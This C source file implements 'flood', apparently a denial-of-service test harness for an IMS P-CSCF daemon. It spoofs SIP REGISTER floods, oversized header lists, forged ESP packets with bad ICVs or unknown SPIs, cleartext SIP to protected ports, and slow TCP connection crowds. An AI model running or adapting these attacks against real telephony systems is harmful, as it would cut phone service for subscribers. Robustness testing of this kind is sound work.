// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * flood - strangers who want to keep phones from being served: raw packets over a tun device,
 * with whatever source they like, or thousands of TCP connections.
 *
 *   flood TUN PCSCF-ADDRESS PORT DOMAIN
 *
 * Lines of standard input, each but the first answered by a line of JSON when it has ended:
 *
 *   victim ADDRESS SPI           a registered UE and the SPI of its SA towards port_ps
 *   register SECONDS RATE N      REGISTERs from N addresses, for an IMPI of each; who gets
 *                                a 401 does nothing with it
 *   lists SECONDS RATE N         requests whose lists fill 64 kB; a quarter of them as long as
 *                                the daemon's default limits allow
 *   icv SECONDS RATE N           ESP of the victims with a wrong ICV, ahead of their numbers
 *   spi SECONDS RATE N           ESP from the victims' addresses with SPIs that nobody has
 *   clear SECONDS RATE N         SIP without ESP from the victims' addresses to protected ports
 *   crowd SECONDS RATE N         N connections that say an octet a minute, see crowd.h
 *
 * Open loop: RATE a second, whatever becomes of them; 0: as many as this CPU can. The addresses
 * are 10.128.0.1 and on, of a crowd 10.200.0.1 and on.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if.h>
#include <linux/if_tun.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "crowd.h"
#include "esp.h"
#include "text.h"

#define STRANGERS 0x0a800001u
#define CROWD 0x0ac80001u
#define FIRST_IMPI 1000			/* the ones below are of phones */
#define IMPIS 90000
#define VICTIMS 1024
#define LONGEST 65000
#define AHEAD 1000000u			/* of what the victims have sent so far */
#define NO_SPI 0x1f000000u		/* of the daemon's range, far from those it has drawn */

static int tun;
static uint32_t pcscf;
static uint16_t port;
static const char *domain;
static struct { uint32_t address, spi; } victims[VICTIMS];
static unsigned int n_victims;
static uint8_t forged[1600];		/* ESP, to be made one of somebody */
static size_t n_forged;
static uint32_t life, serial;

static struct {
	unsigned long sent, failed, answers[7];
} count;

typedef void attack_fn(unsigned long i, unsigned int n);

static void put(const uint8_t *packet, size_t n)
{
	count.sent++;
	if (write(tun, packet, n) < 0)
		count.failed++;
}

static void put_clear(uint32_t from, uint16_t sport, uint16_t dport, const char *text, size_t n)
{
	static uint8_t packet[LONGEST + ESP_ROOM];

	put(packet, esp_packet(packet, NULL, htonl(from), pcscf, sport, dport, 0, 0, text, n));
}

static size_t head(char *out, size_t room, const char *method, uint32_t from, unsigned int impi)
{
	serial++;
	return (size_t)snprintf(out, room,
		"%s sip:%s SIP/2.0\r\nVia: SIP/2.0/UDP %u.%u.%u.%u:5060;branch=z9hG4bK%x-%x\r\n"
		"Max-Forwards: 70\r\nFrom: <sip:%u@%s>;tag=%x\r\nTo: <sip:%u@%s>\r\n"
		"Call-ID: %x-%x\r\nCSeq: 1 %s\r\n", method, domain, from >> 24, from >> 16 & 255,
		from >> 8 & 255, from & 255, life, serial, impi, domain, serial, impi, domain, life,
		serial, method);
}

static void attack_register(unsigned long i, unsigned int n)
{
	uint32_t from = STRANGERS + (uint32_t)(i % n);
	unsigned int impi = FIRST_IMPI + (unsigned int)(i % IMPIS);
	char text[2048];
	size_t size = head(text, sizeof(text), "REGISTER", from, impi);

	size += (size_t)snprintf(text + size, sizeof(text) - size,
		"Contact: <sip:%u@%u.%u.%u.%u:5060>;expires=600000\r\n"
		"Authorization: Digest username=\"%u@%s\",realm=\"%s\",uri=\"sip:%s\",nonce=\"\","
		"response=\"\",algorithm=AKAv1-MD5\r\n"
		"Supported: path,sec-agree\r\nRequire: sec-agree\r\nProxy-Require: sec-agree\r\n"
		"Security-Client: ipsec-3gpp;alg=hmac-sha-1-96;ealg=aes-cbc;prot=esp;mod=trans;"
		"spi-c=%u;spi-s=%u;port-c=30000;port-s=40000\r\nContent-Length: 0\r\n\r\n",
		impi, from >> 24, from >> 16 & 255, from >> 8 & 255, from & 255, impi, domain, domain,
		domain, 5000 + serial * 2 % 100000, 5001 + serial * 2 % 100000);
	put_clear(from, 5060, port, text, size);
}

/* A list in one line of @size octets, with an element every @step. */
static size_t list(char *out, const char *name, const char *element, size_t size, size_t step)
{
	size_t n = (size_t)sprintf(out, "%s: ", name), at;

	for (at = n; at + step < size; at += step) {
		memset(out + at, 'a', step);
		memcpy(out + at, element, strlen(element));
		out[at + step - 1] = ',';
	}
	return at + (size_t)sprintf(out + at, "%s\r\n", element);
}

static void attack_lists(unsigned long i, unsigned int n)
{
	static const struct { const char *name, *element; } lists[] = {
		{ "Security-Client", "a" }, { "Route", "<sip:a;lr>" }, { "Via", "SIP/2.0/UDP a" },
		{ "Contact", "<sip:a@b>" }, { "Supported", "a" }, { "Path", "<sip:a;lr>" },
	};
	static const size_t n_lists = sizeof(lists) / sizeof(lists[0]);
	static char text[LONGEST + 1];
	uint32_t from = STRANGERS + (uint32_t)(i % n);
	size_t size = head(text, sizeof(text), i & 1 ? "REGISTER" : "OPTIONS", from, FIRST_IMPI);
	unsigned int which = (unsigned int)(i / 4 % n_lists);

	if (i % 4)
		size += list(text + size, lists[which].name, lists[which].element,
			     LONGEST - size - 100, 16);
	else
		for (int k = 0; k < 3; k++, which = (which + 1) % n_lists)
			size += list(text + size, lists[which].name, lists[which].element, 4000, 64);
	size += (size_t)sprintf(text + size, "Content-Length: 0\r\n\r\n");
	put_clear(from, 5060, port, text, size);
}

static void attack_icv(unsigned long i, unsigned int n)
{
	unsigned int v = (unsigned int)(i % n_victims);

	(void)n;
	esp_forge(forged, n_forged, victims[v].address, victims[v].spi, AHEAD + serial++);
	put(forged, n_forged);
}

static void attack_spi(unsigned long i, unsigned int n)
{
	(void)n;
	esp_forge(forged, n_forged, victims[i % n_victims].address, NO_SPI + (uint32_t)(i & 0xfffff),
		  ++serial);
	put(forged, n_forged);
}

static void attack_clear(unsigned long i, unsigned int n)
{
	uint32_t from = ntohl(victims[i % n_victims].address);
	char text[1024];
	size_t size = head(text, sizeof(text), "MESSAGE", from, FIRST_IMPI);

	(void)n;
	size += (size_t)snprintf(text + size, sizeof(text) - size, "Content-Length: 0\r\n\r\n");
	put_clear(from, (uint16_t)(30000 + i % 16), (uint16_t)(6100 + i % 5), text, size);
}

static void read_answers(void)
{
	static uint8_t packet[65536];
	struct esp_datagram d;
	ssize_t n;

	for (int i = 0; i < 64 && (n = read(tun, packet, sizeof(packet) - 1)) > 0; i++) {
		packet[n] = 0;
		if (esp_head(packet, (size_t)n, &d) && !d.spi && d.n > 12 &&
		    !strncmp(d.data, "SIP/2.0 ", 8) && d.data[8] >= '1' && d.data[8] <= '6')
			count.answers[d.data[8] - '0']++;
	}
}

static void print_it(const char *word, double seconds)
{
	printf("{\"what\":\"%s\",\"sent\":%lu,\"failed\":%lu,\"seconds\":%.3f,\"answers\":{", word,
	       count.sent, count.failed, seconds);
	for (int i = 1; i < 7; i++)
		printf("%s\"%dxx\":%lu", i > 1 ? "," : "", i, count.answers[i]);
	puts("}}");
	fflush(stdout);
}

static void attack(const char *word, attack_fn *fn, double seconds, double rate, unsigned int n)
{
	uint64_t began = text_now_us(), now = began;
	unsigned long i = 0;

	memset(&count, 0, sizeof(count));
	while ((double)(now - began) < seconds * 1e6) {
		struct pollfd p = { .fd = tun, .events = POLLIN };
		int sent = 0;

		while (sent < 64 && (rate <= 0 || (double)(now - began) * rate >= 1e6 * (double)i)) {
			fn(i++, n);
			sent++;
		}
		poll(&p, 1, sent == 64 ? 0 : 1);
		if (p.revents)
			read_answers();
		now = text_now_us();
	}
	print_it(word, (double)(now - began) / 1e6);
}

static void crowd(double seconds, double rate, unsigned int n)
{
	struct crowd_result r;
	int ret = crowd_run(pcscf, port, htonl(CROWD), n, rate, seconds, &r);

	if (ret)
		printf("{\"error\":\"%s\"}\n", strerror(-ret));
	else
		printf("{\"what\":\"crowd\",\"sent\":%lu,\"seconds\":%.3f,\"opened\":%lu,"
		       "\"refused\":%lu,\"closed\":%lu,\"standing\":%u}\n", r.opened + r.refused,
		       seconds, r.opened, r.refused, r.closed, r.standing);
	fflush(stdout);
}

static void do_line(const char *line)
{
	static const struct {
		const char *word;
		attack_fn *fn;
		bool victims;
	} attacks[] = {
		{ "register", attack_register, false }, { "lists", attack_lists, false },
		{ "icv", attack_icv, true }, { "spi", attack_spi, true }, { "clear", attack_clear, true },
	};
	char word[32], address[32];
	double seconds, rate;
	unsigned int n;

	if (sscanf(line, "victim %31s %u", address, &n) == 2 && n_victims < VICTIMS &&
	    inet_pton(AF_INET, address, &victims[n_victims].address) == 1) {
		victims[n_victims++].spi = n;
		return;
	}
	if (sscanf(line, "%31s %lf %lf %u", word, &seconds, &rate, &n) == 4 && n) {
		if (!strcmp(word, "crowd")) {
			crowd(seconds, rate, n);
			return;
		}
		for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
			if (!strcmp(word, attacks[i].word) && (!attacks[i].victims || n_victims)) {
				attack(word, attacks[i].fn, seconds, rate, n);
				n_victims = 0;
				return;
			}
	}
	puts("{\"error\":\"what?\"}");
	fflush(stdout);
}

static int open_tun(const char *name)
{
	struct ifreq r = { .ifr_flags = IFF_TUN | IFF_NO_PI };
	int fd = open("/dev/net/tun", O_RDWR | O_NONBLOCK | O_CLOEXEC);

	snprintf(r.ifr_name, sizeof(r.ifr_name), "%s", name);
	return fd < 0 || ioctl(fd, TUNSETIFF, &r) ? -1 : fd;
}

int main(int argc, char **argv)
{
	struct esp_keys keys = { .encrypted = true };
	char line[128], text[400];

	life = (uint32_t)text_now_us() ^ (uint32_t)getpid() << 16;
	if (argc != 5 || inet_pton(AF_INET, argv[2], &pcscf) != 1) {
		fputs("usage: flood TUN PCSCF-ADDRESS PORT DOMAIN\n", stderr);
		return 2;
	}
	port = (uint16_t)atoi(argv[3]);
	domain = argv[4];
	tun = open_tun(argv[1]);
	if (tun < 0) {
		perror("flood: tun");
		return 1;
	}
	memset(text, 'a', sizeof(text));
	n_forged = esp_packet(forged, &keys, htonl(STRANGERS), pcscf, 30000, 6100, NO_SPI, 1, text,
			      sizeof(text));
	puts("{\"ready\":true}");
	fflush(stdout);
	while (fgets(line, sizeof(line), stdin))
		do_line(line);
	return 0;
}
